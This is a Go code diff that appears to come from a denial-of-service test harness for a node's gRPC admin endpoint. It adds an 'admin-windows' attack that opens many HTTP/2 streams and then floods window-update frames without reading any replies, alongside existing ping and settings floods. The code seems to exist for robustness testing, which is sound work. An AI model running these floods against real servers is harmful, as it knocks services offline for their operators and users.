@@ -54,6 +54,10 @@ var administered = withTLS([]attack{
 		each(500, adminPings),
 	},
 	{
+		"admin-windows", "500 connections that read nothing and send windows to --admin", "http",
+		each(500, adminWindows),
+	},
+	{
 		"admin-settings", "500 connections that send settings to --admin and read nothing", "http",
 		each(500, adminSettings),
 	},
@@ -245,21 +249,37 @@ func adminPages(ctx context.Context, v *victim) (sent int) {
 }
 
 func adminPings(ctx context.Context, v *victim) int {
-	return control(ctx, v, func(c *adminConn) error { return c.WritePing(false, [8]byte{1}) })
+	return control(ctx, v, 0, func(c *adminConn) error { return c.WritePing(false, [8]byte{1}) })
 }
 
 func adminSettings(ctx context.Context, v *victim) int {
-	return control(ctx, v, func(c *adminConn) error { return c.WriteSettings() })
+	return control(ctx, v, 0, func(c *adminConn) error { return c.WriteSettings() })
 }
 
-// control sends 64 frames at a time that each want an answer, and reads none. The connection stays
-// open while the node takes in nothing more.
-func control(ctx context.Context, v *victim, write func(c *adminConn) error) (sent int) {
+// adminWindows asks first for more than has room in sockets: gRPC keeps windows until it has
+// written the answers.
+func adminWindows(ctx context.Context, v *victim) int {
+	return control(ctx, v, 4*perConn, func(c *adminConn) error { return c.WriteWindowUpdate(0, 1) })
+}
+
+// control opens calls, sends 64 frames at a time that are no calls, and reads nothing. The
+// connection stays open while the node takes in nothing more.
+func control(
+	ctx context.Context, v *victim, calls int, write func(c *adminConn) error,
+) (sent int) {
 	c := dialAdmin(ctx, v, false)
 	if c == nil {
 		return 0
 	}
 	defer c.Close()
+	for i := range calls {
+		if c.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: uint32(2*i + 1), BlockFragment: c.fields("POST", "/none", asCall...),
+			EndHeaders: true, EndStream: true,
+		}) != nil {
+			return sent
+		}
+	}
 	var frames bytes.Buffer
 	batch := &adminConn{Framer: http2.NewFramer(&frames, nil)}
 	for range 64 {
